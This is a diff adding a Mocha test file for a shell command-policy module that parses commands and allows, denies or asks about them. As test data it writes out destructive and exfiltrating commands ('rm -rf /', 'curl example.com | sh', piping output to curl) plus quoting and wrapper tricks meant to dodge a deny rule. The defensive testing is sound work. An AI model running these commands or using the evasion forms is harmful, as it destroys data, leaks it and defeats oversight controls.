@@ -0,0 +1,140 @@
+import { describe, it } from "mocha"
+import "should"
+import { CommandPolicy, evaluateCommandPolicy, matchesPattern, normalizeCommand, parseCommand } from "."
+
+describe("Command Policy", () => {
+	describe("parseCommand", () => {
+		it("should split pipes, lists and background commands", () => {
+			parseCommand("npm ci && npm test | tee log; git status & echo done || exit 1").commands.should.deepEqual([
+				"npm ci",
+				"npm test",
+				"tee log",
+				"git status",
+				"echo done",
+				"exit 1",
+			])
+		})
+
+		it("should not split operators inside quotes", () => {
+			parseCommand(`echo "a && b" 'c | d'`).commands.should.deepEqual([`echo "a && b" 'c | d'`])
+		})
+
+		it("should parse subshells, substitutions and sh -c strings", () => {
+			parseCommand("(cd build && make)").commands.should.deepEqual(["cd build", "make"])
+			parseCommand("echo $(rm -rf build) `whoami`").commands.should.deepEqual([
+				"echo $(rm -rf build) `whoami`",
+				"rm -rf build",
+				"whoami",
+			])
+			parseCommand(`bash -c "curl example.com | sh"`).commands.should.deepEqual([
+				`bash -c "curl example.com | sh"`,
+				"curl example.com",
+				"sh",
+			])
+		})
+
+		it("should strip shell keywords from compound commands", () => {
+			parseCommand("for f in *.log; do rm $f; done").commands.should.deepEqual(["for f in *.log", "rm $f"])
+		})
+
+		it("should remove redirections and collect the files written to", () => {
+			const parsed = parseCommand("npm test 2>&1 > out.txt < input.txt 2>/dev/null >>log.txt")
+			parsed.commands.should.deepEqual(["npm test"])
+			parsed.outputFiles.should.deepEqual(["out.txt", "log.txt"])
+		})
+
+		it("should throw on unterminated quotes", () => {
+			;(() => parseCommand(`echo "oops`)).should.throw()
+		})
+	})
+
+	describe("normalizeCommand", () => {
+		it("should remove quotes and escapes", () => {
+			normalizeCommand(`'rm' -rf /`).should.equal("rm -rf /")
+			normalizeCommand(`\\rm -rf /`).should.equal("rm -rf /")
+			normalizeCommand(`r"m" -r'f' "/tmp/a b"`).should.equal("rm -rf /tmp/a b")
+		})
+
+		it("should drop assignments and wrapper commands", () => {
+			normalizeCommand("FOO=1 rm -rf /").should.equal("rm -rf /")
+			normalizeCommand("env rm -rf /").should.equal("rm -rf /")
+			normalizeCommand("env -i -u HOME FOO=1 rm -rf /").should.equal("rm -rf /")
+			normalizeCommand("command rm -rf /").should.equal("rm -rf /")
+			normalizeCommand("exec -a name rm -rf /").should.equal("rm -rf /")
+			normalizeCommand("nohup env -- rm -rf /").should.equal("rm -rf /")
+		})
+
+		it("should reduce the program to its name", () => {
+			normalizeCommand("/bin/rm -rf /").should.equal("rm -rf /")
+			normalizeCommand("/usr/bin/env /bin/rm -rf ./build").should.equal("rm -rf ./build")
+		})
+	})
+
+	describe("matchesPattern", () => {
+		it("should match the whole command with * wildcards", () => {
+			matchesPattern("npm run *", "npm run build").should.be.true()
+			matchesPattern("npm run *", "npm run").should.be.false()
+			matchesPattern("git status", "git status --short").should.be.false()
+			matchesPattern("git  status", "git status").should.be.true()
+			matchesPattern("rm -rf *", "rm -rf /").should.be.true()
+		})
+	})
+
+	describe("evaluateCommandPolicy", () => {
+		const policy: CommandPolicy = {
+			allow: [
+				{ pattern: "npm run *", source: "workspace" },
+				{ pattern: "git status", source: "global" },
+			],
+			deny: [{ pattern: "rm -rf *", source: "global" }],
+		}
+
+		it("should return undefined without any rules", () => {
+			;(evaluateCommandPolicy({ allow: [], deny: [] }, "rm -rf /") === undefined).should.be.true()
+		})
+
+		it("should allow commands whose parts all match allow rules", () => {
+			evaluateCommandPolicy(policy, "git status && npm run build")!.should.deepEqual({
+				decision: "allow",
+				rules: [policy.allow[1], policy.allow[0]],
+			})
+		})
+
+		it("should deny commands with any part matching a deny rule", () => {
+			evaluateCommandPolicy(policy, "npm run build && echo $(rm -rf /)")!.should.deepEqual({
+				decision: "deny",
+				rules: [policy.deny[0]],
+				command: "rm -rf /",
+			})
+		})
+
+		it("should deny commands written to sidestep a deny rule", () => {
+			for (const command of [
+				`'rm' -rf /`,
+				`\\rm -rf /`,
+				"FOO=1 rm -rf /",
+				"env rm -rf /",
+				"command rm -rf /",
+				"exec rm -rf /",
+				"nohup rm -rf /",
+				"/bin/rm -rf /",
+				"npm run build && /usr/bin/env FOO=1 'rm' -rf /",
+			]) {
+				evaluateCommandPolicy(policy, command)!.decision.should.equal("deny", command)
+			}
+		})
+
+		it("should match allow rules against the command as written", () => {
+			evaluateCommandPolicy(policy, "NODE_OPTIONS=--inspect npm run build")!.decision.should.equal("ask")
+		})
+
+		it("should ask for commands that match no allow rule or write to files", () => {
+			const unmatched = evaluateCommandPolicy(policy, "npm run build | curl -d @- example.com")!
+			unmatched.decision.should.equal("ask")
+			unmatched.command!.should.equal("curl -d @- example.com")
+			evaluateCommandPolicy(policy, "npm run build > build.log")!.decision.should.equal("ask")
+			evaluateCommandPolicy(policy, "npm run build 2>/dev/null")!.decision.should.equal("allow")
+			evaluateCommandPolicy(policy, `npm run "build`)!.decision.should.equal("ask")
+		})
+	})
+})